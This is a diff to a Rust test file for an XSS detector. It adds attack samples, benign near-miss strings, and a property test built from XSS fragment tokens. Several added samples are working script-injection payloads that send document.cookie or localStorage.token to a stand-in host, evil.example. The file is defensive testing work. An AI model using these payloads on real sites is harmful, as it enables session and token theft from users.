@@ -1,12 +1,14 @@
-use proptest::prelude::*;
-
-use super::super::tests::{check_table, confidence, satisfies};
+use super::super::properties::check_properties;
+use super::super::tests::{check_table, confidence};
 use super::super::{Context, Detector, Place};
 
 const VALUE: Context = Context::of(Place::Value);
 const RICH: Context = Context { place: Place::Value, rich_text: true };
 
 const ATTACKS: &[&str] = &[
+    "';new Image().src='//evil.example/?'+document.cookie;'",
+    "';new \n Image().src=`http://evil.example/?`+localStorage.token;//z",
+    "';document.body.innerHTML='<h1>x</h1>';'",
     "<a onmouseover=\"setTimeout('ale'+'rt(1)')\">",
     "<p x-data x-init=\"alert(1)\">x</p>",
     "<b @click=\"alert(1)\">x</b>",
@@ -151,6 +153,8 @@ const ATTACKS: &[&str] = &[
 ];
 
 const HONEST: &[&str] = &[
+    "'new Image' 是什么",
+    "it's a new image; see src",
     "<template><b>{{ a }}</b></template>\n<script>\nexport default { data() { return { a: 1 } } }\n</script>",
     "<el-button @click=\"save\" v-on:change=\"load()\">保存</el-button>",
     "血糖<5.0 mmol/L",
@@ -243,6 +247,7 @@ const HONEST: &[&str] = &[
 ];
 
 const HINTS: &[&str] = &[
+    "<script> put it </b>",
     "XSS 整改: 对 <script>、onerror= 等做转义; 参考等保 8.1.4",
     "<script setup> 语法 (已解决)",
     "alert('x')",
@@ -281,66 +286,55 @@ fn editors_may_send_markup_but_no_active_content() {
     }
 }
 
-fn any_value() -> impl Strategy<Value = Vec<u8>> {
-    let piece = prop::sample::select(vec![
-        "<",
-        ">",
-        "/",
-        "\"",
-        "'",
-        "`",
-        "=",
-        " ",
-        "script",
-        "img",
-        "src",
-        "svg",
-        "onload",
-        "onerror",
-        "onclick",
-        "alert",
-        "(1)",
-        "javascript:",
-        "data:text/html,",
-        "style",
-        "expression(",
-        "@import",
-        "//",
-        "iframe",
-        "srcdoc",
-        "</script>",
-        ";",
-        "-",
-        "${",
-        "{{",
-        "}",
-        "x",
-        "[]",
-        "!",
-        "+",
-        "<!--",
-        "document.cookie",
-        "eval",
-        "href",
-        "\n",
-        "&",
-        "中",
-    ]);
-    prop_oneof![
-        prop::collection::vec(any::<u8>(), 0..120),
-        prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat().into_bytes()),
-    ]
-}
-
-proptest! {
-    #![proptest_config(ProptestConfig::with_cases(2000))]
-    #[test]
-    fn any_value_is_judged_and_a_finding_meets_the_requirement(value in any_value()) {
-        if let Some(finding) = Detector::Xss.find(&value, VALUE) {
-            prop_assert!(value.get(finding.span.clone()).is_some());
-            prop_assert!(satisfies(&value, &Detector::Xss.requirement()), "{}", finding.path);
-        }
-    }
+#[test]
+fn xss_findings_meet_the_requirement_in_linear_work() {
+    check_properties(
+        Detector::Xss,
+        &[
+            "<",
+            ">",
+            "/",
+            "\"",
+            "'",
+            "`",
+            "=",
+            " ",
+            "script",
+            "img",
+            "src",
+            "svg",
+            "onload",
+            "onerror",
+            "onclick",
+            "alert",
+            "(1)",
+            "javascript:",
+            "data:text/html,",
+            "style",
+            "expression(",
+            "@import",
+            "//",
+            "iframe",
+            "srcdoc",
+            "</script>",
+            ";",
+            "-",
+            "${",
+            "{{",
+            "}",
+            "x",
+            "[]",
+            "!",
+            "+",
+            "<!--",
+            "document.cookie",
+            "eval",
+            "href",
+            "\n",
+            "&",
+            "中",
+        ],
+    );
 }
 
 #[test]
